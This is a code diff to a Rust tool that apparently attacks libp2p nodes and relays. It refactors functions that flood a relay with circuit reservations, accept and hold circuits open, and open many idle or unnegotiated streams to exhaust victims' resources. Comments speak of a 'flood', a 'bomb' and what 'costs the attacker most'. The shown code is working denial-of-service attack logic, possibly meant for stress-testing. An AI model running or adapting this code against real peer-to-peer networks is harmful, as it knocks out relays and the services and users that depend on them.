@@ -2,7 +2,7 @@
 
 use std::time::Duration;
 
-use anyhow::{Context, Result, bail};
+use anyhow::{Result, bail};
 use futures::{AsyncReadExt, AsyncWriteExt};
 use kaspath_transport_libp2p::STREAM_PROTOCOL;
 use libp2p::{PeerId, core::muxing::SubstreamBox, identity::Keypair};
@@ -15,6 +15,7 @@ use tokio::{
 
 use super::{
     bomb,
+    circuits::{reserve, take_circuits},
     client::{Connection, address},
     wire,
 };
@@ -28,6 +29,8 @@ const SINKS: usize = 4;
 /// What one of its connections asks for.
 const CIRCUITS: usize = 4;
 const STREAMS: usize = 64;
+/// Streams of a connection that is one of many.
+const FEW_STREAMS: usize = 16;
 /// So many connections to each target do what costs the attacker most.
 const HEAVY: u64 = 4;
 /// Bytes on a stream that nobody reads: less than a window, so that they leave.
@@ -51,9 +54,11 @@ impl Attack {
         if kind == AttackKind::CircuitOpening {
             for _ in 0..SINKS {
                 let key = Keypair::generate_ed25519();
+                // Where the relay gives no reservation, circuits to it are asked for all the same.
                 sinks.push(key.public().to_peer_id());
-                let connection = reserve(&key, relay, false).await.context("no reservation before the flood")?;
-                tokio::spawn(take_circuits(connection));
+                if let Ok(connection) = reserve(&key, relay, false).await {
+                    tokio::spawn(take_circuits(connection));
+                }
             }
         }
         Ok(Self { kind, relay: relay.clone(), bomb, sinks })
@@ -132,7 +137,7 @@ async fn connect(n: u64, victim: &Victim) -> Result<Connection> {
     Connection::open(&Keypair::generate_ed25519(), address(victim.ip, is_odd(n))).await
 }
 
-async fn speak(connection: &Connection, protocol: &str) -> Result<SubstreamBox> {
+pub(super) async fn speak(connection: &Connection, protocol: &str) -> Result<SubstreamBox> {
     let mut stream = connection.stream().await?;
     wire::propose(&mut stream, protocol).await?;
     Ok(stream)
@@ -149,28 +154,6 @@ async fn hold(mut stream: TcpStream) -> Result<()> {
     let mut buffer = [0; 1024];
     while stream.read(&mut buffer).await? > 0 {}
     Ok(())
-}
-
-async fn reserve(key: &Keypair, relay: &Victim, over_quic: bool) -> Result<Connection> {
-    let connection = Connection::open(key, address(relay.ip, over_quic)).await?;
-    let mut stream = speak(&connection, wire::HOP).await?;
-    wire::ask(&mut stream, &wire::reserve()).await?;
-    Ok(connection)
-}
-
-/// Accepts every circuit and keeps it.
-async fn take_circuits(mut connection: Connection) {
-    while let Ok(mut stream) = connection.accept().await {
-        tokio::spawn(async move {
-            wire::agree(&mut stream, wire::STOP).await?;
-            wire::read_message(&mut stream).await?;
-            stream.write_all(&wire::accept_circuit()).await?;
-            stream.flush().await?;
-            let mut buffer = [0; 1024];
-            while stream.read(&mut buffer).await? > 0 {}
-            anyhow::Ok(())
-        });
-    }
 }
 
 async fn handshake(n: u64, victim: &Victim) -> Result<()> {
@@ -265,7 +248,7 @@ async fn open_and_close(n: u64, victim: &Victim) -> Result<()> {
 async fn negotiate_nothing(n: u64, victim: &Victim) -> Result<()> {
     let connection = connect(n, victim).await?;
     let mut held = Vec::new();
-    for i in 0..STREAMS {
+    for i in 0..if n < HEAVY { STREAMS } else { FEW_STREAMS } {
         let mut stream = connection.stream().await?;
         if n < HEAVY && i % 2 == 0 && victim.kind == TargetKind::Relay {
             // Nobody at a relay accepts these.
